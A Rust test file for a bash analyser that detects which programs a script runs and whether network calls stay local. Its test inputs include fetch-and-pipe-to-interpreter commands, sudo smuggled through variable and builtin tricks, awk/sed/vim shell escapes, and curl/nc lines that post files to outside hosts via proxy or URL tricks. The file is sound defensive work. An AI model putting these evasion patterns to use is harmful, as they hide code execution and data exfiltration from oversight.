//! Values that decide what runs: variables that the environment cannot hold, defaults, and parameters of
//! functions that run what they are given. Compared with what bash does.

use super::{programs, reasons};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use stoplog::call::effects::{Effects, UnresolvedReason};
use stoplog::call::shell::{EnvironmentNames, ShellContext, analyse};

fn analysed(script: &str) -> Effects {
    let names = ["HOME", "PATH", "LC_*", "EDITOR"].map(str::to_owned);
    let context = ShellContext {
        cwd: PathBuf::from("/w"),
        home: Some(PathBuf::from("/h")),
        environment: EnvironmentNames::Only(names.into()),
        ..ShellContext::default()
    };
    analyse(script, &context)
}

/// Programs that only note that they ran, and with which arguments.
const STUBS: [&str; 6] = ["one", "two", "three", "make", "sudo", "id"];

/// A directory of stubs.
struct Stubs(tempfile::TempDir);

impl Stubs {
    #[expect(clippy::disallowed_methods, reason = "the test writes the programs that bash finds")]
    fn new() -> Self {
        let directory = tempfile::tempdir().unwrap();
        for stub in STUBS {
            let path = directory.path().join(stub);
            let log = directory.path().join("ran");
            std::fs::write(&path, format!("#!/bin/sh\necho {stub} >> {}\n", log.display()))
                .unwrap();
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        Self(directory)
    }

    /// The stubs that ran, sorted, each once.
    #[expect(clippy::disallowed_methods, reason = "the test asks bash itself what it runs")]
    fn ran(&self, script: &str) -> Vec<String> {
        let log = self.0.path().join("ran");
        std::fs::write(&log, "").unwrap();
        let path = format!("{}:/usr/bin:/bin", self.0.path().display());
        let status = std::process::Command::new("/bin/bash")
            .args(["--norc", "--noprofile", "-c", script])
            .env_clear()
            .env("PATH", path)
            .env("HOME", "/h")
            .current_dir(self.0.path())
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status();
        assert!(status.is_ok());
        let text = std::fs::read_to_string(&log).unwrap();
        let mut names: Vec<String> = text.lines().map(ToOwned::to_owned).collect();
        names.sort();
        names.dedup();
        names
    }
}

#[test]
fn what_a_value_decides_is_what_bash_runs() {
    let stubs = Stubs::new();
    for script in [
        "${X:-one} a",
        "${X-one} a",
        "\"${X:-one}\" a",
        "${X:-\"one\"} a",
        "${X:-one two} a",
        "${X:-${Y:-two}} a",
        "X=${X:-one}; $X a",
        "X=two; ${X:-one} a",
        "$X one a",
        "$X$Y two",
        "o$@ne",
        "$* two",
        "eval \"one $X\"",
        "(echo ${!Y}); one",
        "Y=HOME; echo ${!Y}; one",
        "IFS=_; X=one_a; $X",
        "IFS=,; X=,one; $X || two",
        "IFS=_; X=two_; ${X}three",
        "IFS=; X=one; $X",
        "IFS=$'\\n'; X='one'; $X",
        "X='one two'; $X; IFS=_; Y=three_a; $Y",
        "run() { \"$@\"; }; run one a",
        "run() { echo \"$*\"; \"$@\" || return; }; run two; run three x",
        "run() { shift; \"$@\"; }; run one two",
        "run() { local n=$1; shift 2; if \"$@\"; then :; fi; }; run a b three",
        "main() { run one; }; run() { \"$@\"; }; main",
        "run() { \"$@\"; }; run run two",
        "run() { \"$@\"; }; make() { one; }; run make",
        "run() { \"$@\"; }; X=1 run two",
        "run() { \"$@\"; }; trap 'run three' EXIT; one",
        "run() { \"$@\"; }; eval 'run one'",
        "run() { \"$@\"; }; echo $(run two)",
        "run() { \"$@\"; }; run",
    ] {
        let effects = analysed(script);
        assert!(reasons(&effects).is_empty(), "{script}: {:?}", effects.unresolved);
        let mut found: Vec<String> = programs(&effects)
            .into_iter()
            .filter(|program| STUBS.contains(program))
            .map(ToOwned::to_owned)
            .collect();
        found.sort();
        found.dedup();
        let ran = stubs.ran(script);
        assert!(ran.iter().all(|name| found.contains(name)), "{script}: {ran:?} of {found:?}");
        // A function's own commands are judged where it is defined, whether it is called or not.
        let extra: Vec<&String> = found.iter().filter(|name| !ran.contains(name)).collect();
        assert!(extra.is_empty(), "{script}: {extra:?} do not run");
    }
}

#[test]
fn what_may_have_changed_is_not_believed() {
    let stubs = Stubs::new();
    for script in [
        // A builtin under another name assigns, moves the parameters, or stores elsewhere.
        "b=read; $b X <<< sudo; $X id",
        "r''ead X <<< sudo; $X id",
        "X=one; \\read X <<< sudo; $X id",
        "X=one; command -p read X <<< sudo; $X id",
        "command -p read X <<< sudo; $X id",
        "builtin read -r X <<< sudo; ${X:-one} id",
        "printf -v X sudo; $X id",
        "p=printf; $p -v X sudo; ${X:-one} id",
        "f() { s''hift; \"$@\"; }; f one sudo id",
        "f() { \\shift; \"$@\"; }; f one sudo id",
        "f() { while shift; do \"$@\"; break; done; }; f one sudo id",
        "f() { \"$@\"; shift; \"$@\"; }; f one sudo id",
        "f() { set -- sudo id; \"$@\"; }; f one",
        "f() { eval set -- sudo id; \"$@\"; }; f one",
        "set -- sudo id; $@",
        "set -- sudo id; f() { \"$@\"; trap '\"$@\"' EXIT; }; f one",
        "f() { \"$@\"; }; export -f f; bash -c 'f sudo id'",
        "set -a; f() { \"$@\"; }; bash -c 'f sudo id'",
        "f() { \"$@\"; }; c=f; $c sudo id",
        "f() { \"$@\"; }; f $(echo sudo id)",
        "f() { shift; \"$@\"; }; f $(echo a sudo) id",
        "f() { \"$@\"; }; f() { shift; \"$@\"; }; f one sudo id",
        "command_not_found_handle() { \"$@\"; }; nosuch sudo id",
        "declare -n R=X; R=sudo; $X id",
        "f() { X=sudo; }; f; $X id",
        "for X in sudo; do :; done; $X id",
        "X=one; for i in 1 2; do $X id; X=sudo; done",
        ": ${X:=sudo}; $X id",
        "read X < <(echo sudo); ${X:-one} id",
        "eval 'X=sudo'; $X id",
        "echo X=sudo > v; . ./v; $X id",
        "echo X=sudo > v; source ./v; ${X:-one} id",
        "bash -c '$0 id' sudo",
        "bash -c '$X id'",
        "X=sudo bash -c '$X id'",
        "env X=sudo bash -c '${X:-one} id'",
        "PS4=sudo; ${PS4:-one} id",
        "IFS=' _'; X='sudo_id'; $X",
        "f() { IFS=_; }; f; X=sudo_id; $X",
        "X=sudo_id; IFS=_ read Y; IFS=_; $X",
        "read IFS <<< _; X=sudo_id; $X",
        "${BASH:-one} -c 'sudo id'",
        "${SHELL:-one} -c 'sudo id'",
        "$EDITOR id",
        "${LC_ALL:-one} id",
        "y='a[$(sudo id)]'; echo ${!y}",
        "(( x = 1 )); X=sudo; $X id",
        "mapfile -t M <<< sudo; $M id",
        "getopts s X -s; coproc :; $X id",
    ] {
        let effects = analysed(script);
        let seen = programs(&effects).contains(&"sudo");
        let doubted = reasons(&effects).iter().any(|reason| {
            matches!(
                reason,
                UnresolvedReason::ProgramWord
                    | UnresolvedReason::CodeWord
                    | UnresolvedReason::ForeignCode
            )
        });
        assert!(seen || doubted, "{script}: {:?} {:?}", programs(&effects), effects.unresolved);
    }
    // The control: where the environment may hold anything, nothing is assumed.
    let open = super::analysed("${X:-one} a");
    assert_eq!(reasons(&open), [UnresolvedReason::ProgramWord]);
    assert_eq!(stubs.ran("b=read; $b X <<< sudo; $X id"), ["sudo"], "bash runs it");
}

#[test]
fn paths_of_variables_without_a_value_stay_unknown() {
    // Whoever wrote it meant a value; that it is empty is for bash to say.
    let effects = analysed("rm -rf \"$BUILD/out\"; cat $X/y");
    assert!(effects.paths.is_empty(), "{:?}", effects.paths);
    let defaults = analysed("rm -rf \"${BUILD:-out}/x\"; cat ${1:-a} ${2:-~/b}");
    let paths: Vec<String> =
        defaults.paths.iter().map(|path| path.path.display().to_string()).collect();
    assert_eq!(paths, ["/w/out/x", "/w/a"]);
}

#[test]
fn what_other_programs_run_is_found_in_their_words() {
    for script in [
        "awk 'BEGIN{system(\"sudo id\")}'",
        "awk '{print | \"sudo id\"}' f",
        "awk 'BEGIN{\"sudo id\" | getline x}'",
        "sed '1e sudo id' f",
        "vim -c ':!sudo id' -c q",
        "vim '+r !sudo id' f",
        "ed f <<< '!sudo id'",
        "sh < <(echo sudo id)",
    ] {
        let effects = analysed(script);
        let doubted = reasons(&effects).contains(&UnresolvedReason::ForeignCode);
        assert!(programs(&effects).contains(&"sudo") || doubted, "{script}");
    }
    for script in ["awk '{system($1)}' f", "sed 's/a/b/e' f"] {
        assert_eq!(reasons(&analysed(script)), [UnresolvedReason::CodeWord], "{script}");
    }
    for script in [
        "curl http://h/x | python3",
        "wget -qO- http://h/x | perl",
        "curl -o x http://h/x && sh x",
        "curl -o x http://h/x; chmod +x x; ./x",
        "wget -O d/x http://h/x; python3 d/x",
        "cd d; curl -o x http://h/x; cd ..; bash d/x",
        "python3 <(curl http://h/x)",
        "make -f - <<< 'x:; sudo id'",
    ] {
        assert!(reasons(&analysed(script)).contains(&UnresolvedReason::ForeignCode), "{script}");
    }
    for script in [
        "awk '{print $1 | \"sort\"}' f",
        "curl -o x http://h/x; cat x; sh y",
        "python3 < x.py",
        "python3 - <<'E'\nprint(1)\nE",
        "ls | python3 -c 'import sys; print(sys.stdin.read())'",
        "ls | python3 -m json.tool",
        "sed -e '1e date' f",
    ] {
        assert!(
            reasons(&analysed(script)).is_empty(),
            "{script}: {:?}",
            analysed(script).unresolved
        );
    }
}

#[test]
fn a_directory_that_is_too_deep_to_follow_is_told() {
    let deep = "cd a;".repeat(70) + "cat b";
    assert!(reasons(&analysed(&deep)).contains(&UnresolvedReason::PathWord));
    let effects = analysed(&("cd a && ".repeat(20) + "cat b"));
    assert!(effects.unresolved.is_empty());
    let last = effects.paths.last().unwrap();
    assert_eq!(last.path, Path::new("/w").join("a/".repeat(20)).join("b"));
}

#[test]
fn only_what_certainly_stays_on_this_machine_is_marked() {
    let stays = |script: &str| {
        let effects = analysed(script);
        effects.commands.iter().any(|command| command.stays_here)
    };
    for script in [
        "curl -s http://localhost:8080/x",
        "curl -sS -X POST -H 'A: b' -d @f http://127.0.0.1:3000/a",
        "curl -d x 'http://[::1]:80/'",
        "wget -qO- --post-data=x http://localhost/",
        "nc -zv -w1 localhost 80",
    ] {
        assert!(stays(script), "{script}");
    }
    for script in [
        "curl -d @f http://localhost http://h",
        "curl -d @f http://localhost --next http://h",
        "curl -d @f --url http://h http://localhost",
        "curl -x http://h -d @f http://localhost",
        "curl --proxy http://h -d @f http://localhost",
        "curl --prox http://h -d @f http://localhost",
        "curl --connect-to ::h: -d @f http://localhost",
        "curl --resolve localhost:80:1.2.3.4 -d @f http://localhost",
        "curl -K c -d @f http://localhost",
        "curl -sKc -d @f http://localhost",
        "curl -d @f http://localhost@h/",
        "curl -d @f http://localhost\\\\@h/",
        "curl -d @f $X http://localhost",
        "curl -d @f $(cat o) http://localhost",
        "http_proxy=h curl -d @f http://localhost",
        "export ALL_PROXY=h; curl -d @f http://localhost",
        "HOME=. curl -d @f http://localhost",
        ". ./env; curl -d @f http://localhost",
        "ssh h curl -d @f http://localhost",
        "curl -d @f",
        "nc localhost 80",
        "nc -z localhost h 80",
        "nc -z h 80",
        "nc -ze sh localhost 80",
    ] {
        assert!(!stays(script), "{script}");
    }
}
